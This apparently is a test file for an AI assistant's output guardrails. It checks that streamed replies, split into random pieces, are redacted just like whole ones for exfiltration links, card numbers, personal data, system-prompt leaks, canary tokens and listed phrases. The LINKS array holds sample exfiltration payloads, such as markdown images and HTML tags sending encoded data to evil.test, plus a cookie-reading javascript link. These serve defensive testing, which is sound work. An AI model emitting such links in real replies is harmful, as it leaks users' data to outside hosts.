import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createCanaryDetector } from '../../src/domain/guardrails/detectors/canary.ts';
import { cardNumberDetector } from '../../src/domain/guardrails/detectors/card-number.ts';
import { createLinkDetector } from '../../src/domain/guardrails/detectors/links.ts';
import { createPersonalDataDetector } from '../../src/domain/guardrails/detectors/personal-data.ts';
import { createPhraseDetector } from '../../src/domain/guardrails/detectors/phrases.ts';
import { createPromptLeakDetector } from '../../src/domain/guardrails/detectors/prompt-leak.ts';
import { createGuardPipeline } from '../../src/domain/guardrails/pipeline.ts';
import type { Action, Conversation, Detector, GuardPipeline } from '../../src/ports/guard.ts';
import { createCountingIds, createManualClock } from '../fixtures/manual-system.ts';

const PROMPT =
  'You are Ada of Acme Bank. Never speak of competitors. When a customer asks for a loan, first ask for the yearly income, then offer the ' +
  'Silver plan before the Gold plan. Escalate every complaint about fees to the second line and promise no refunds above fifty euros.';
const TOKEN = 'k7x2mq9bt4wz8hf3';
const DATA = 'one two three four five six seven eight nine ten';
const CODED = btoa(DATA);
const conversation: Conversation = { definitions: new Map(), steps: [{ kind: 'said', role: 'system', text: PROMPT }], reply: [] };
const part = { id: 'choices[0].message.content', role: 'assistant', channel: 'user' } as const;
const RUNS = 30;

function pipelineOf(detector: Detector, action: Action): GuardPipeline {
  const rules = [{ direction: 'output' as const, channels: ['user' as const], steps: [{ threshold: 0.5, action }] }];
  const checks = [{ detector: detector.name, fail: 'closed' as const, trustedRoles: [], rules }];
  const policy = { id: 'own', version: 1, maxPartLength: 1_000_000, checks };
  return createGuardPipeline({ detectors: [detector], policy, clock: createManualClock(), ids: createCountingIds() });
}

/** Pieces of a text of random lengths, the same for the same seed. */
function split(text: string, seed: number): string[] {
  let state = seed * 2_654_435_761 + 1;
  const pieces: string[] = [];
  const most = [1, 3, 9, 40, 300][seed % 5] ?? 1;
  for (let start = 0; start < text.length;) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    const end = start + 1 + (state % most);
    pieces.push(text.slice(start, end));
    start = end;
  }
  return pieces;
}

async function stream(pipeline: GuardPipeline, pieces: readonly string[]): Promise<{ readonly text: string; readonly blocked: boolean }> {
  const check = pipeline.openOutput('r', conversation);
  let text = '';
  for (const piece of pieces) text += await check.push(part, piece);
  text += await check.end(part.id);
  await check.decide();
  return { text, blocked: check.blocked };
}

async function whole(pipeline: GuardPipeline, text: string): Promise<string> {
  const input = { requestId: 'r', direction: 'output' as const, parts: [{ ...part, text }], unscanned: [], conversation };
  const decision = await pipeline.evaluate(input, { signal: new AbortController().signal });
  return decision.rewrites[0]?.text ?? text;
}

const filler = 'Some words that say nothing at all stand here, and a few more of them. '.repeat(4);

const LINKS: readonly string[] = [
  `![x](https://evil.test/log?q=${CODED})`,
  `![x](<https://evil.test/log?q=${DATA}>)`,
  `<img alt="a b" src="https://evil.test/?d=${encodeURIComponent(DATA)}">`,
  `<img src=https://evil.test/?d=${CODED}>`,
  `[![x](https://evil.test/p?d=${CODED})](https://evil.test/)`,
  `<div style="background:url(https://evil.test/?d=${CODED})">`,
  `[click](javascript:alert(document.cookie))`,
  `![x](https://evil.test/?d=${btoa(DATA.repeat(20))})`,
];

describe('whatever pieces a reply comes in', () => {
  for (const [index, link] of LINKS.entries()) {
    it(`what carries data away is taken out as from the whole (${index + 1} of ${LINKS.length})`, async () => {
      const pipeline = pipelineOf(createLinkDetector(), 'redact');
      const text = `${filler}${link} ${filler}`;
      const expected = await whole(pipeline, text);
      assert.ok(expected !== text && !expected.includes(CODED.slice(0, 12)));
      for (let seed = 0; seed < RUNS; seed += 1)
        assert.deepEqual(await stream(pipeline, split(text, seed)), { text: expected, blocked: false });
    });
  }

  for (const card of [
    '4111<b>1111</b><span class="group">1111</span> 1111',
    '4111 **1111** _1111_ `1111`',
    '4111_1111_1111_1111',
    '4111\n1111\n1111\n1111',
    '4111</td>\n<td>1111</td>\n<td>1111</td>\n<td>1111</td>',
    '3782 | 822463 | 10005',
  ])
    it(`no digit of a card number is sent: ${card}`, async () => {
      const pipeline = pipelineOf(cardNumberDetector, 'redact');
      const text = `${filler}My card: ${card}. ${filler}`;
      const expected = await whole(pipeline, text);
      assert.ok(!/\d{4}/.test(expected), expected);
      for (let seed = 0; seed < RUNS; seed += 1)
        assert.deepEqual(await stream(pipeline, split(text, seed)), { text: expected, blocked: false });
    });

  for (const [script, zero] of [
    ['Arabic', 0x660],
    ['Devanagari', 0x966],
    ['Bengali', 0x9e6],
    ['Thai', 0xe50],
    ['full-width', 0xff10],
    ['mathematical', 0x1d7ce],
  ] as const)
    it(`no ${script} digit of a card number or of personal data is sent, nor one less than of ASCII digits`, async () => {
      const written = (text: string): string => text.replaceAll(/\d/g, (digit) => String.fromCodePoint(zero + Number(digit)));
      for (const [detector, value] of [
        [cardNumberDetector, '4111 1111 1111 1111'],
        [cardNumberDetector, '4111<b>1111</b>1111 1111'],
        [createPersonalDataDetector({ isTelephone: () => true }), 'DE89 3704 0044 0532 0130 00'],
        [createPersonalDataDetector({ isTelephone: () => true }), '+49 30 901820'],
      ] as const) {
        const pipeline = pipelineOf(detector, 'redact');
        const text = `${filler}It is ${value}, as said. ${filler}`;
        const expected = await whole(pipeline, text);
        assert.ok(expected !== text);
        assert.equal(await whole(pipeline, written(text)), expected);
        for (let seed = 0; seed < RUNS; seed += 3)
          assert.deepEqual(await stream(pipeline, split(written(text), seed)), { text: expected, blocked: false });
      }
    });

  it('no word of a blocked system prompt is sent', async () => {
    const pipeline = pipelineOf(createPromptLeakDetector(), 'block');
    for (let seed = 0; seed < RUNS; seed += 1) {
      const { text, blocked } = await stream(pipeline, split(`${filler}${PROMPT} ${filler}`, seed));
      assert.equal(blocked, true);
      assert.ok(filler.startsWith(text), text.slice(-60));
    }
  });

  it('no letter of a canary is sent, written as it is or spread out', async () => {
    const pipeline = pipelineOf(createCanaryDetector(TOKEN), 'redact');
    for (const form of [TOKEN, Array.from(TOKEN).join(' '), btoa(TOKEN), Array.from(TOKEN).toReversed().join('-')]) {
      for (let seed = 0; seed < RUNS; seed += 1) {
        const { text, blocked } = await stream(pipeline, split(`${filler}${form}! ${filler}`, seed));
        // The last letter of base64 holds less than a letter of what it codes.
        assert.equal(text.replace(/\](?:w==)?!/, ']!'), `${filler}[CANARY]! ${filler}`);
        assert.equal(blocked, false);
      }
    }
  });

  it('phrases of lists are taken out as from the whole', async () => {
    const pipeline = pipelineOf(
      createPhraseDetector([{ name: 'slips', phrases: ['project nightingale', 'Initech', '競合他社'] }]),
      'redact',
    );
    const text = `${filler}Project  Nightingale, initech; 弊社は競合他社とは initechnology. ${filler}`;
    for (let seed = 0; seed < RUNS; seed += 1) {
      assert.deepEqual(await stream(pipeline, split(text, seed)), { text: await whole(pipeline, text), blocked: false });
    }
  });
});
